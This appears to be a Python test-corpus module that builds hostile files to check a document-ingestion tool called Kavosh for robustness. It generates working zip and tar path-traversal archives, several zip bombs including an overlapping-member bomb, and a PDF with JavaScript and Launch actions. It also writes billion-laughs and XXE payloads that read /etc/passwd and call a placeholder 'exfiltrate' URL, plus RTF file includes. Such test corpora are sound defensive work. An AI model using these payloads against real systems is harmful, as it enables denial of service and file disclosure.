"""The hostile-file corpus of issue 9: every attack tried on Kavosh, built here from nothing.

Each :class:`Item` writes its file into a folder (``build``); :func:`run_item` ingests that
folder into a new case with the real command line, in a subprocess bounded in time, and
reports how every document ended, the peak memory of the process tree and the time taken.
``tests/test_hostile.py`` runs every enabled item; ``bench/hostile_corpus.py`` prints the table.

Items marked ``enabled=False`` are known to hang or flood on this branch and wait for a fix
elsewhere (``hook`` says which); the lead turns them on after merging it.

All people, names and addresses here are fictional.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import stat
import struct
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
WALL_SECONDS = 300  # per item, generous: the machine running CI may be slow and shared
PEAK_MIB = 1500  # per item, the whole process tree (main process and workers)


@dataclass(frozen=True, slots=True)
class Item:
    """One hostile file: what it tries, and how to build it into a folder."""

    name: str
    attack: str  # what the file tries to do
    build: Callable[[Path], Path]  # writes the file into the folder given; returns its path
    enabled: bool = True
    hook: str = ""  # why an item is not enabled yet, and what enables it


@dataclass(slots=True)
class Outcome:
    """How one item's ingest ended."""

    item: str
    exit_code: int | None  # None: killed at the wall bound
    seconds: float
    peak_mib: float
    documents: list[dict[str, object]] = field(default_factory=list)

    @property
    def top(self) -> dict[str, object]:
        """The hostile file's own document (the first file of the run)."""
        return next(d for d in self.documents if d.get("kind") == "file")

    def summary(self) -> str:
        """``done`` / ``failed: <reason>`` for the file, and how its children ended."""
        top = self.top
        text = str(top["status"])
        if top.get("reason"):
            text += f": {top['reason']}"
        children = [d for d in self.documents
                    if d.get("kind") in ("file", "entry") and d is not top]
        if children:
            failed = [d for d in children if d["status"] == "failed"]
            text += f" ({len(children)} inside, {len(failed)} failed"
            reasons = sorted({str(d["reason"]) for d in failed})
            if reasons:
                text += f": {reasons[0][:90]}" + (f" +{len(reasons) - 1} more" if
                                                  len(reasons) > 1 else "")
            text += ")"
        return text


# --- running ------------------------------------------------------------------------------


def run_item(item: Item, folder: Path, wall: float = WALL_SECONDS,
             env: dict[str, str] | None = None) -> Outcome:
    """Build ``item`` into ``folder/in``, ingest it into ``folder/case`` with the real CLI in a
    subprocess (its own session, killed whole at ``wall`` seconds), then export the case.

    The peak memory is the largest resident set of the process or any of its descendants
    (``wait4`` reports it for the child's whole tree of waited-for processes)."""
    source = folder / "in"
    source.mkdir(parents=True, exist_ok=True)
    item.build(source)
    case = folder / "case"
    command = [sys.executable, "-m", "kavosh", "ingest", str(source), "--case", str(case)]
    started = time.perf_counter()
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               env=env or _env(), start_new_session=True)
    timer = threading.Timer(wall, _kill_group, (process.pid,))
    timer.start()
    try:
        _, status, usage = os.wait4(process.pid, 0)
    finally:
        timer.cancel()
    process.returncode = os.waitstatus_to_exitcode(status)  # reaped above, not by Popen
    seconds = time.perf_counter() - started
    killed = process.returncode == -signal.SIGKILL and seconds >= wall
    outcome = Outcome(item.name, None if killed else process.returncode, seconds,
                      usage.ru_maxrss / 1024)
    if not killed:
        outcome.documents = export(case, env)
    return outcome


def export(case: Path, env: dict[str, str] | None = None) -> list[dict[str, object]]:
    """Every document of ``case`` as ``kavosh export`` writes it."""
    done = subprocess.run([sys.executable, "-m", "kavosh", "export", "--case", str(case)],
                          capture_output=True, text=True, env=env or _env(), timeout=600,
                          check=True)
    return [json.loads(line) for line in done.stdout.splitlines() if line.strip()]


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT)}


def _kill_group(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(pid, signal.SIGKILL)


# --- archives -----------------------------------------------------------------------------


def zip_path_tricks(folder: Path) -> Path:
    """Members that climb out (``..``), absolute, drive-letter and backslash paths, a symlink."""
    path = folder / "path-tricks.zip"
    with zipfile.ZipFile(path, "w") as z:
        for name in ("../../evil.txt", "/etc/kavosh-abs.txt", "C:/Windows/drive.txt",
                     "docs\\..\\..\\back.txt"):
            z.writestr(name, "escaped")
        link = zipfile.ZipInfo("passwd-link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(link, "/etc/passwd")
        z.writestr("fine/ok.txt", "the one harmless member")
    return path


def tar_path_tricks(folder: Path) -> Path:
    """A tar with ``..`` and absolute names, a symlink, a hard link and a device."""
    path = folder / "path-tricks.tar"
    with tarfile.open(path, "w") as tar:
        for name in ("../../escape.txt", "/tmp/kavosh-abs.txt"):
            info = tarfile.TarInfo(name)
            info.size = 3
            tar.addfile(info, io.BytesIO(b"bad"))
        for name, kind in (("link", tarfile.SYMTYPE), ("hard", tarfile.LNKTYPE),
                           ("null", tarfile.CHRTYPE)):
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = "/etc/passwd"
            tar.addfile(info)
        ok = tarfile.TarInfo("ok.txt")
        ok.size = 7
        tar.addfile(ok, io.BytesIO(b"ok text"))
    return path


def nested_zips(folder: Path, levels: int = 50) -> Path:
    """``levels`` zips, each holding the next: only the first ``max_depth`` are opened."""
    blob, name = b"the bottom of the well", "bottom.txt"
    for level in range(levels):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, blob)
        blob, name = buffer.getvalue(), f"level{levels - level:02d}.zip"
    path = folder / name
    path.write_bytes(blob)
    return path


def overlapping_zip_bytes(members: int, kernel_bytes: int) -> bytes:
    """A zip whose members all end in one shared deflate kernel (David Fifield's "better zip
    bomb"): member *i*'s data quotes the local headers of members *i+1* … in stored blocks,
    then the kernel. Each member is small enough to pass a per-member ratio check; together
    they expand to about ``members × kernel_bytes``."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(kernel_bytes)
    kernel = squeeze.compress(zeros) + squeeze.flush()
    names = [f"part-{i:04d}.txt".encode() for i in range(members)]
    headers: list[bytes] = [b""] * members
    sizes: list[tuple[int, int, int]] = [(0, 0, 0)] * members  # crc, compressed, size
    data, before_kernel = kernel, b""
    for i in range(members - 1, -1, -1):
        crc = zlib.crc32(zeros, zlib.crc32(before_kernel))
        sizes[i] = (crc, len(data), len(before_kernel) + kernel_bytes)
        headers[i] = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data),
                                 sizes[i][2], len(names[i]), 0) + names[i]
        if i:  # member i-1 quotes this header in a non-final stored block
            quote = struct.pack("<BHH", 0, len(headers[i]), len(headers[i]) ^ 0xFFFF)
            data = quote + headers[i] + data
            before_kernel = headers[i] + before_kernel
    body = headers[0] + data
    directory, offset = b"", 0
    for i in range(members):
        crc, compressed, size = sizes[i]
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                                 compressed, size, len(names[i]), 0, 0, 0, 0, 0,
                                 offset) + names[i]
        offset += len(headers[i]) + 5
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(directory),
                      len(body), 0)
    return body + directory + end


def overlapping_zip(folder: Path) -> Path:
    """Issue 9 point 4: 250 overlapping members of 8 MiB each (2 GiB) in about 60 KB."""
    path = folder / "overlap.zip"
    path.write_bytes(overlapping_zip_bytes(250, 8 * 1024 * 1024))
    return path


def spread_bomb(folder: Path, members: int = 400, size: int = 8 * 1024 * 1024) -> Path:
    """Many honest members, each under the per-member guard (smaller than its floor), that
    together expand far past the container's own bound (``members × size`` bytes)."""
    path = folder / "spread.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for i in range(members):
            z.writestr(f"zeros-{i:04d}.bin", i.to_bytes(4, "big") + bytes(size - 4))
    return path


def zip_bomb(folder: Path) -> Path:
    """One member of 1 GiB of zeros (a ratio of about 1,000:1)."""
    path = folder / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
            z.open("zeros.bin", "w", force_zip64=True) as member:
        chunk = bytes(16 * 1024 * 1024)
        for _ in range(64):
            member.write(chunk)
    return path


def zip_nul_name(folder: Path, name: str = "nul\x00hidden.txt",
                 text: str = "the text hidden behind a NUL in the name") -> Path:
    """Issue 9 point 11: a member named ``nul\\0hidden.txt`` (Python's zipfile cuts such a
    name when it writes one, so the NUL is put in afterwards)."""
    stand_in = name.replace("\x00", "_").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(stand_in.decode(), text)
    path = folder / "nul-name.zip"
    path.write_bytes(buffer.getvalue().replace(stand_in, name.encode()))
    return path


def zip_quine(folder: Path) -> Path:
    """A zip holding a copy of itself: unpacked naively it never ends."""
    from hostile.quine import zip_quine as quine

    path = folder / "quine.zip"
    path.write_bytes(quine())
    return path


# --- PDF ----------------------------------------------------------------------------------


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF file of ``objects`` (numbered from 1) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_PAGE_TEXT = b"BT /F1 12 Tf 72 720 Td (A page of text about the fictional Parvin Azadeh.) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_actions(folder: Path) -> Path:
    """JavaScript on open, a Launch action, a URI and page-open actions: none may run."""
    path = folder / "actions.pdf"
    path.write_bytes(_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> "
        b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 7 0 R >> >> /AA << /O 6 0 R >> /Annots [8 0 R] >>",
        _stream(_PAGE_TEXT),
        b"<< /S /JavaScript /JS (app.launchURL('http://example.invalid/'); this.exportDataObject"
        b"({cName: 'x', nLaunch: 2});) >>",
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        _FONT,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /URI /URI (http://example.invalid/track) >> >>",
    ]))
    return path


def pdf_loops(folder: Path) -> Path:
    """A page tree that contains itself, a page that is its own parent, and a content stream
    array that names itself."""
    path = folder / "loops.pdf"
    path.write_bytes(_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R 4 0 R] /Count 999999 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
        b"/Resources << /Font << /F1 7 0 R >> >> >>",
        b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Parent 4 0 R /Count 2 >>",
        _stream(_PAGE_TEXT),
        b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
        _FONT,
        b"<< /Title (loop) /Parent 6 0 R /Next 8 0 R /Prev 8 0 R /First 8 0 R >>",
    ]))
    return path


def pdf_attachments(folder: Path) -> Path:
    """Issue 9 point 11: files embedded in a PDF, in the /EmbeddedFiles name tree and as a
    file-attachment annotation: each must become a child document."""
    path = folder / "attachments.pdf"
    named = b"A memo attached to the PDF, about the fictional Kaveh Bahrami."
    annotated = b"A note attached to page one, about the fictional Shirin Nazari."
    path.write_bytes(_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names "
        b"[(memo.txt) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R] >>",
        _stream(_PAGE_TEXT),
        _FONT,
        b"<< /Type /Filespec /F (memo.txt) /UF (memo.txt) /EF << /F 7 0 R >> >>",
        _stream(named, b"/Type /EmbeddedFile"),
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 9 0 R "
        b"/Contents (note) >>",
        b"<< /Type /Filespec /F (note.txt) /UF (note.txt) /EF << /F 10 0 R >> >>",
        _stream(annotated, b"/Type /EmbeddedFile"),
    ]))
    return path


# --- mail ---------------------------------------------------------------------------------


def mime_attachments(folder: Path, count: int = 500) -> Path:
    """One message with ``count`` attachments."""
    message = _message("many attachments")
    for i in range(count):
        message.add_attachment(f"attachment {i}".encode(), maintype="text", subtype="plain",
                               filename=f"a{i:03d}.txt")
    path = folder / "attachments.eml"
    path.write_bytes(message.as_bytes())
    return path


def mime_deep(folder: Path, depth: int = 3000) -> Path:
    """A message whose multipart parts nest ``depth`` deep."""
    lines = ["From: sender@example.org", "Subject: deep", "MIME-Version: 1.0"]
    for level in range(depth):
        lines += [f'Content-Type: multipart/mixed; boundary="b{level}"', "", f"--b{level}"]
    lines += ["Content-Type: text/plain", "", "the bottom"]
    lines += [f"--b{level}--" for level in reversed(range(depth))]
    path = folder / "deep.eml"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="ascii")
    return path


def _message(subject: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Parvin Azadeh <parvin@example.org>"
    message["To"] = "desk@example.org"
    message["Subject"] = subject
    message.set_content("the body of the message")
    return message


# --- XML: entities ------------------------------------------------------------------------

LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
)
BILLION_LAUGHS_DTD = f'<!DOCTYPE x [<!ENTITY lol0 "lol">{LAUGHS}]>'
XXE_DTD = ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
           '<!ENTITY net SYSTEM "http://example.invalid/exfiltrate">]>')


def svg_billion_laughs(folder: Path) -> Path:
    path = folder / "laughs.svg"
    path.write_text(f"<?xml version='1.0'?>{BILLION_LAUGHS_DTD.replace('x [', 'svg [', 1)}"
                    "<svg xmlns='http://www.w3.org/2000/svg'><text>&lol9;</text>"
                    "<text>after the laughs</text></svg>", encoding="utf-8")
    return path


def svg_xxe(folder: Path) -> Path:
    path = folder / "xxe.svg"
    path.write_text(f"<?xml version='1.0'?>{XXE_DTD.replace('x [', 'svg [', 1)}"
                    "<svg xmlns='http://www.w3.org/2000/svg'><text>[&xxe;] [&net;]</text>"
                    "<text>after the entities</text></svg>", encoding="utf-8")
    return path


def _docx_with(body: str, dtd: str) -> bytes:
    """A minimal DOCX whose ``word/document.xml`` carries ``dtd`` and one paragraph."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                f'{dtd.replace("x [", "w:document [", 1)}'
                f'<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t xml:space="preserve">'
                f"{body}</w:t></w:r></w:p></w:body></w:document>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="application'
            '/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
            'document.main+xml"/></Types>'))
        z.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
            '://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>'))
        z.writestr("word/document.xml", document)
    return buffer.getvalue()


def _odt_with(body: str, dtd: str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    content = (f'<?xml version="1.0" encoding="UTF-8"?>'
               f'{dtd.replace("x [", "office:document-content [", 1)}'
               f'<office:document-content xmlns:office="{office}" xmlns:text="{text}" '
               f'office:version="1.2"><office:body><office:text><text:p>{body}</text:p>'
               f"</office:text></office:body></office:document-content>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis'
            ':names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path'
            '="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:'
            'file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>"))
        z.writestr("content.xml", content)
    return buffer.getvalue()


def _package(make: Callable[[str, str], bytes], name: str, body: str,
             dtd: str) -> Callable[[Path], Path]:
    """A builder of the office file ``name`` made by ``make`` with ``body`` under ``dtd``."""
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(make(body, dtd))
        return path
    return build


LAUGHS_BODY = "&lol9; after the laughs"
XXE_BODY = "[&xxe;] [&net;] the text after the entities"  # issue 9 point 11: text kept after
docx_billion_laughs = _package(_docx_with, "laughs.docx", LAUGHS_BODY, BILLION_LAUGHS_DTD)
docx_xxe = _package(_docx_with, "xxe.docx", XXE_BODY, XXE_DTD)
odt_billion_laughs = _package(_odt_with, "laughs.odt", LAUGHS_BODY, BILLION_LAUGHS_DTD)
odt_xxe = _package(_odt_with, "xxe.odt", XXE_BODY, XXE_DTD)


def rtf_includes(folder: Path) -> Path:
    """RTF fields that would pull in a local file and a remote picture, and an OLE object
    (read through LibreOffice): nothing may be fetched or included."""
    path = folder / "includes.rtf"
    path.write_text(
        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Helvetica;}}"
        r"{\field{\*\fldinst INCLUDETEXT \"/etc/passwd\"}{\fldrslt none}}\par "
        r"{\field{\*\fldinst INCLUDEPICTURE \"http://example.invalid/p.png\" \\d}"
        r"{\fldrslt none}}\par "
        r"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}\par "
        r"The visible text of the fictional Omid Karimi.\par}",
        encoding="ascii")
    return path


# --- HTML ---------------------------------------------------------------------------------


def html_nested_divs(folder: Path, depth: int = 1_000_000) -> Path:
    """Issue 9 point 2: a million nested ``<div>`` (11 MB)."""
    path = folder / "divs.html"
    path.write_text("<html><body>" + "<div>" * depth + "deep text" + "</div>" * depth
                    + "</body></html>", encoding="ascii")
    return path


ITEMS: tuple[Item, ...] = (
    Item("zip-path-tricks", "zip members named ../, /abs, C:, backslash; a symlink",
         zip_path_tricks),
    Item("tar-path-tricks", "tar members named ../ and /abs; symlink, hard link, device",
         tar_path_tricks),
    Item("zip-quine", "a zip that contains itself (434 bytes)", zip_quine),
    Item("nested-zips-50", "50 zips nested in each other", nested_zips),
    Item("zip-bomb", "one member of 1 GiB of zeros (1,000:1)", zip_bomb),
    Item("overlapping-zip", "250 overlapping members, 2 GiB from 60 KB", overlapping_zip),
    Item("spread-bomb", "400 members of 8 MiB, each under the per-member guard", spread_bomb),
    Item("zip-nul-name", "a member named nul\\0hidden.txt", zip_nul_name),
    Item("pdf-actions", "PDF JavaScript, Launch, URI and open actions", pdf_actions),
    Item("pdf-loops", "a PDF page tree and outline that contain themselves", pdf_loops),
    Item("pdf-attachments", "files embedded in a PDF (name tree and annotation)",
         pdf_attachments),
    Item("mime-500-attachments", "an e-mail with 500 attachments", mime_attachments),
    Item("mime-3000-deep", "an e-mail with multipart nested 3,000 deep", mime_deep),
    Item("svg-billion-laughs", "entity expansion in SVG", svg_billion_laughs),
    Item("svg-xxe", "external entities (file, network) in SVG", svg_xxe),
    Item("docx-billion-laughs", "entity expansion in DOCX", docx_billion_laughs),
    Item("docx-xxe", "external entities in DOCX; text after them", docx_xxe),
    Item("odt-billion-laughs", "entity expansion in ODT", odt_billion_laughs),
    Item("odt-xxe", "external entities in ODT", odt_xxe),
    Item("rtf-includes", "RTF INCLUDETEXT, INCLUDEPICTURE and an OLE object", rtf_includes),
    Item("html-nested-divs", "1,000,000 nested <div> (11 MB)", html_nested_divs),
)
